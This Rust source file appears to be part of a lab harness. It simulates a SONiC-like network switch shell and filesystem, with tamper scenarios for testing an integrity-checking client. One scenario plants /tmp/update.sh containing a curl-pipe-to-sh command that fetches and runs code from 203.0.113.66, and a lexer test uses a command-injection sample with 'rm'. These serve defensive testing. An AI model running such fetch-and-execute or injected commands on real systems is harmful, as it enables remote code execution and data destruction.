//! Linux (SONiC-like) persona: LF line endings, bash-style errors, POSIX single-quote parsing.
//!
//! Rule: only the quoting a careful client produces (`'...'`, `\x`, plain words) is parsed;
//! anything needing a real shell (`$`, `;`, `|`, double quotes, globs) is refused, so a client that
//! builds unsafe command lines fails loudly in tests instead of working by accident.

use super::Reply;
use super::disk::{Disk, FileScenarios, Node, What};
use crate::lab::device::{DeviceCore, Flags, Snapshot};
use crate::lab::vfs::{HashAlgo, Vfs, VfsFile};

/// The running image path.
pub(crate) const RUNNING_IMAGE: &str = "/host/image-202311.1/fs.squashfs";
/// The image BootVariableChanged points grub at.
pub(crate) const HOTFIX_IMAGE: &str = "/host/image-202311.1-hotfix/fs.squashfs";

const MTIME_IMAGE: u32 = 1_699_000_000;
const MTIME_ETC: u32 = 1_700_000_000;

const OS_RELEASE: &str = "PRETTY_NAME=\"SONiC 202311.1 (Debian GNU/Linux 12 (bookworm))\"\n\
NAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"202311.1\"\nID=debian\n";

const CMDLINE: &str = "BOOT_IMAGE=/image-202311.1/boot/vmlinuz-6.1.0-11-2-amd64 \
root=UUID=8a1c6f2e-5b0d-4f4e-9a3c-2f5d1e7b9c01 rw console=ttyS0,115200n8 quiet \
loop=image-202311.1/fs.squashfs loopfstype=squashfs\n";

fn grub_entry(version: &str) -> String {
    let image = format!("image-{version}");
    format!(
        "menuentry 'SONiC-OS-{version}' {{\n\
         \tsearch --no-floppy --label --set=root SONiC-OS\n\
         \techo 'Loading SONiC-OS OS kernel ...'\n\
         \tinsmod gzio\n\
         \tif [ x$grub_platform = xxen ]; then insmod xzio; insmod lzopio; fi\n\
         \tinsmod part_msdos\n\
         \tinsmod ext2\n\
         \tlinux   /{image}/boot/vmlinuz-6.1.0-11-2-amd64 root=UUID=8a1c6f2e-5b0d-4f4e-9a3c-2f5d1e7b9c01 rw \
         console=ttyS0,115200n8 quiet loop={image}/fs.squashfs loopfstype=squashfs\n\
         \techo 'Loading SONiC-OS OS initial ramdisk ...'\n\
         \tinitrd  /{image}/boot/initrd.img-6.1.0-11-2-amd64\n\
         }}\n"
    )
}

fn grub_cfg(boot_changed: bool) -> String {
    let mut s = String::from(
        "serial --port=0x3f8 --speed=115200 --word=8 --parity=no --stop=1\n\
         terminal_input console serial\n\
         terminal_output console serial\n\n\
         set default=\"0\"\n\
         set timeout=5\n\
         if [ -s $prefix/grubenv ]; then\n  load_env\nfi\n\n",
    );
    if boot_changed {
        s.push_str(&grub_entry("202311.1-hotfix"));
    }
    s.push_str(&grub_entry("202311.1"));
    s
}

fn config_db(hostname: &str, changed: bool) -> String {
    let syslog = if changed {
        "203.0.113.66"
    } else {
        "192.0.2.10"
    };
    format!(
        "{{\n    \"DEVICE_METADATA\": {{\n        \"localhost\": {{\n            \"hostname\": \"{hostname}\",\n\
         \x20           \"hwsku\": \"Force10-S6000\",\n            \"platform\": \"x86_64-kvm_x86_64-r0\",\n\
         \x20           \"type\": \"LeafRouter\",\n            \"bgp_asn\": \"65100\"\n        }}\n    }},\n\
         \x20   \"SYSLOG_SERVER\": {{\n        \"{syslog}\": {{}}\n    }},\n\
         \x20   \"NTP_SERVER\": {{\n        \"192.0.2.123\": {{}}\n    }},\n\
         \x20   \"MGMT_INTERFACE\": {{\n        \"eth0|10.0.0.2/24\": {{\n            \"gwaddr\": \"10.0.0.1\"\n        }}\n    }}\n}}\n"
    )
}

/// The tree `find` walks: the system directories, where a SONiC box stages tools and keeps logs, and
/// what each file scenario puts there.
const DISK: Disk = Disk {
    running: Some((RUNNING_IMAGE, MTIME_IMAGE)),
    next: Some((HOTFIX_IMAGE, MTIME_ETC)),
    fixed: &[
        Node::dir("/", MTIME_ETC),
        Node::dir("/etc", MTIME_ETC),
        Node::dir("/etc/sonic", MTIME_ETC),
        Node::dir("/host", MTIME_ETC),
        Node::dir("/host/grub", MTIME_ETC),
        Node::dir("/host/image-202311.1", MTIME_ETC),
        Node::dir("/proc", MTIME_ETC),
        Node::dir("/boot", MTIME_ETC),
        Node::dir("/home", MTIME_ETC),
        Node::dir("/home/admin", MTIME_ETC),
        Node::dir("/root", MTIME_ETC),
        Node::dir("/var", MTIME_ETC),
        Node::dir("/var/log", MTIME_ETC),
        Node::dir("/usr", MTIME_ETC),
        Node::dir("/usr/local", MTIME_ETC),
        Node::dir("/usr/local/bin", MTIME_ETC),
        Node::new("/tmp", What::Sticky, MTIME_ETC),
        Node::new("/var/tmp", What::Sticky, MTIME_ETC),
        Node::text("/boot/vmlinuz-6.1.0-11-2-amd64", "MZ\0\0", MTIME_IMAGE),
        Node::text(
            "/boot/config-6.1.0-11-2-amd64",
            "CONFIG_64BIT=y\n",
            MTIME_IMAGE,
        ),
        Node::text("/home/admin/.bashrc", "# ~/.bashrc\n", MTIME_ETC),
        Node::text("/root/.bashrc", "# ~/.bashrc\n", MTIME_ETC),
        Node::exec(
            "/usr/local/bin/sonic-cfggen",
            "#!/usr/bin/python3\n",
            MTIME_IMAGE,
        ),
        Node::text(
            "/var/log/syslog",
            "Nov 14 22:13:20 lab sonic: started\n",
            MTIME_ETC,
        ),
        Node::new(
            "/etc/localtime",
            What::Link("/usr/share/zoneinfo/Etc/UTC"),
            MTIME_IMAGE,
        ),
        Node::dir("/etc/ssh", MTIME_ETC),
        Node::text("/etc/ssh/sshd_config", "PermitRootLogin no\n", MTIME_ETC),
        Node::text("/etc/os-release", OS_RELEASE, MTIME_ETC),
        Node::text("/proc/cmdline", CMDLINE, MTIME_ETC),
    ],
    config: None,
    scenarios: Some(
        FileScenarios::at(
            MTIME_ETC + 9000,
            (
                "/tmp/update.sh",
                What::Exec("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"),
            ),
            (
                "/var/log/syslog.1",
                "Nov 15 00:00:01 lab rsyslogd: rotated\n",
            ),
            ("/etc/sonic/acl-CHG1234.json", "{\"ACL_TABLE\": {}}\n"),
        )
        .with_alt_image("/host/image-202305.1/fs.squashfs")
        .with_dd_image("/backup/system_image.img"),
    ),
};

pub(crate) fn build_vfs(core: &DeviceCore, flags: &Flags) -> Vfs {
    let mut v = DISK.build(core, flags);
    let serial = &core.serials[usize::from(flags.serial_changed)];
    v.insert(
        "/etc/hostname",
        VfsFile::bytes(format!("{}\n", core.name), MTIME_ETC),
    );
    v.insert(
        "/etc/machine-id",
        VfsFile::bytes(format!("{serial}\n"), MTIME_ETC),
    );
    v.insert(
        "/host/grub/grub.cfg",
        VfsFile::bytes(grub_cfg(flags.boot_changed), MTIME_ETC),
    );
    v.insert(
        "/etc/sonic/config_db.json",
        VfsFile::bytes(config_db(&core.name, flags.config_changed), MTIME_ETC),
    );
    v
}

/// `find START... -xdev -maxdepth N -printf FORMAT`, with only the format the linux profile sends.
fn find(snap: &Snapshot, args: &[String]) -> Reply {
    let split = args
        .iter()
        .position(|a| a.starts_with('-'))
        .unwrap_or(args.len());
    let (starts, opts) = args.split_at(split);
    let depth = match opts {
        [x, m, n, p, fmt]
            if x == "-xdev"
                && m == "-maxdepth"
                && p == "-printf"
                && fmt == crate::profile::listing::LINUX_FIND_PRINTF =>
        {
            n.parse::<usize>().ok()
        }
        _ => None,
    };
    let (Some(depth), false) = (depth, starts.is_empty()) else {
        return Reply::error(
            "find: lab supports only `find DIR... -xdev -maxdepth N -printf FORMAT` with the linux profile's format\n",
            1,
        );
    };
    let mut out = Vec::new();
    let mut err = String::new();
    let mut record = |path: &str, f: &VfsFile| super::listing::find_record(&mut out, path, f);
    for start in starts {
        let Some(f) = snap.vfs.get(start) else {
            err.push_str(&format!("find: '{start}': No such file or directory\n"));
            continue;
        };
        record(start, f);
        if !f.is_dir() {
            continue;
        }
        let prefix = if start == "/" {
            "/".to_string()
        } else {
            format!("{start}/")
        };
        for (p, f) in snap.vfs.list(&prefix) {
            let rel = &p[prefix.len()..];
            // -xdev: /proc is another filesystem; its mount point is listed, its contents are not.
            if rel.is_empty() || rel.split('/').count() > depth || p.starts_with("/proc/") {
                continue;
            }
            record(p, f);
        }
    }
    Reply::Output {
        stdout: out,
        status: u32::from(!err.is_empty()),
        stderr: err.into_bytes(),
    }
}

/// The SONiC containers: the database and the SNMP agent (whose image ContainerReplaced swaps).
const DOCKER: super::common::DockerHost = super::common::DockerHost {
    images: &[("docker-database", "latest"), ("docker-snmp", "latest")],
    running: &[
        ("database", "docker-database:latest"),
        ("snmp", "docker-snmp:latest"),
    ],
    replaceable: "docker-snmp",
};

/// `docker images` / `docker ps` in the JSON-lines form the linux profile asks for.
fn docker(snap: &Snapshot, args: &[String]) -> Reply {
    match super::common::docker(snap, &DOCKER, args) {
        Some(out) => Reply::text(out),
        None => Reply::error(
            "docker: lab supports only the linux profile's images and ps forms\n",
            1,
        ),
    }
}

/// Why a command line was refused by [`lex`].
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum LexError {
    Unterminated,
    Unsupported(char),
}

/// Splits a command line into words: whitespace separates, `'...'` is literal, `\c` escapes one
/// character; any other shell metacharacter is refused.
pub(crate) fn lex(line: &str) -> Result<Vec<String>, LexError> {
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\n' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(q) => cur.push(q),
                        None => return Err(LexError::Unterminated),
                    }
                }
            }
            '\\' => {
                in_word = true;
                match chars.next() {
                    Some(e) => cur.push(e),
                    None => return Err(LexError::Unterminated),
                }
            }
            c if c.is_alphanumeric() || "-_./:=,+@%".contains(c) => {
                in_word = true;
                cur.push(c);
            }
            other => return Err(LexError::Unsupported(other)),
        }
    }
    if in_word {
        words.push(cur);
    }
    Ok(words)
}

/// `[--] PATH` → `PATH`.
fn single_path(args: &[String]) -> Option<&str> {
    match args {
        [p] if !p.starts_with('-') || p == "-" => Some(p),
        [dd, p] if dd == "--" => Some(p),
        _ => None,
    }
}

fn hash_cmd(snap: &Snapshot, tool: &str, algo: HashAlgo, args: &[String]) -> Reply {
    let Some(path) = single_path(args) else {
        return Reply::error(format!("{tool}: lab supports only `{tool} -- 'PATH'`\n"), 1);
    };
    match snap.vfs.get(path) {
        None => Reply::error(format!("{tool}: {path}: No such file or directory\n"), 1),
        Some(f) if f.is_dir() => Reply::error(format!("{tool}: {path}: Is a directory\n"), 1),
        Some(_) => match snap.reported_digest(path, algo) {
            Some(hex) => Reply::text(format!("{hex}  {path}\n")),
            None => Reply::error(format!("{tool}: {path}: No such file or directory\n"), 1),
        },
    }
}

pub(crate) fn exec(snap: &Snapshot, command: &str) -> Reply {
    let words = match lex(command) {
        Ok(w) => w,
        Err(LexError::Unterminated) => {
            return Reply::error(
                "bash: -c: line 1: unexpected EOF while looking for matching `''\n",
                2,
            );
        }
        Err(LexError::Unsupported(c)) => {
            return Reply::error(
                format!("bash: -c: line 1: syntax error near unexpected token `{c}' (lab shell)\n"),
                2,
            );
        }
    };
    let Some((cmd, args)) = words.split_first() else {
        return Reply::text("");
    };
    match cmd.as_str() {
        "hostname" if args.is_empty() => Reply::text(format!("{}\n", snap.hostname())),
        "cat" => {
            let Some(path) = single_path(args) else {
                return Reply::error("cat: lab supports only `cat -- 'PATH'`\n", 1);
            };
            match snap.vfs.get(path) {
                None => Reply::error(format!("cat: {path}: No such file or directory\n"), 1),
                Some(f) if f.is_dir() => Reply::error(format!("cat: {path}: Is a directory\n"), 1),
                Some(f) => Reply::Stream(f.clone()),
            }
        }
        "sha512sum" => hash_cmd(snap, "sha512sum", HashAlgo::Sha512, args),
        "sha256sum" => hash_cmd(snap, "sha256sum", HashAlgo::Sha256, args),
        "md5sum" => hash_cmd(snap, "md5sum", HashAlgo::Md5, args),
        "scp" => match args {
            [f, path] if f == "-f" => scp_source(snap, path),
            [f, dd, path] if f == "-f" && dd == "--" => scp_source(snap, path),
            _ => Reply::error("usage: scp -f PATH (lab supports only source mode)\n", 1),
        },
        "find" => find(snap, args),
        "docker" if snap.core.containers => docker(snap, args),
        "uname" if args.is_empty() || args == ["-s"] => Reply::text("Linux\n"),
        "uname" if args == ["-r"] => Reply::text("6.1.0-11-2-amd64\n"),
        "exit" => Reply::Exit,
        "hostname" | "uname" => Reply::error(format!("{cmd}: unsupported option in lab\n"), 1),
        other => Reply::error(format!("bash: line 1: {other}: command not found\n"), 127),
    }
}

fn scp_source(snap: &Snapshot, path: &str) -> Reply {
    let name = path.rsplit('/').next().unwrap_or(path).to_string();
    let file = snap.vfs.get(path).filter(|f| !f.is_dir()).cloned();
    let error = match snap.vfs.get(path) {
        Some(f) if f.is_dir() => format!("scp: {path}: not a regular file\n"),
        _ => format!("scp: {path}: No such file or directory\n"),
    };
    Reply::ScpSource { name, file, error }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lex_handles_single_quotes_and_escapes() {
        assert_eq!(
            lex("sha512sum -- '/a b/c'").unwrap(),
            ["sha512sum", "--", "/a b/c"]
        );
        assert_eq!(lex(r"cat 'it'\''s'").unwrap(), ["cat", "it's"]);
        assert_eq!(lex("  ").unwrap(), Vec::<String>::new());
        assert_eq!(lex("cat ''").unwrap(), ["cat", ""]);
    }

    #[test]
    fn lex_refuses_shell_syntax() {
        assert_eq!(lex("cat x; rm y"), Err(LexError::Unsupported(';')));
        assert_eq!(lex("cat \"x\""), Err(LexError::Unsupported('"')));
        assert_eq!(lex("cat $HOME"), Err(LexError::Unsupported('$')));
        assert_eq!(lex("cat 'x"), Err(LexError::Unterminated));
    }

    #[test]
    fn grub_points_at_the_hotfix_only_after_the_scenario() {
        let clean = grub_cfg(false);
        let changed = grub_cfg(true);
        let first = |s: &str| {
            s.lines()
                .find(|l| l.trim_start().starts_with("linux"))
                .map(str::to_string)
        };
        assert!(
            first(&clean)
                .unwrap()
                .contains("loop=image-202311.1/fs.squashfs")
        );
        assert!(
            first(&changed)
                .unwrap()
                .contains("loop=image-202311.1-hotfix/fs.squashfs")
        );
        assert!(changed.contains("set default=\"0\""));
    }
}
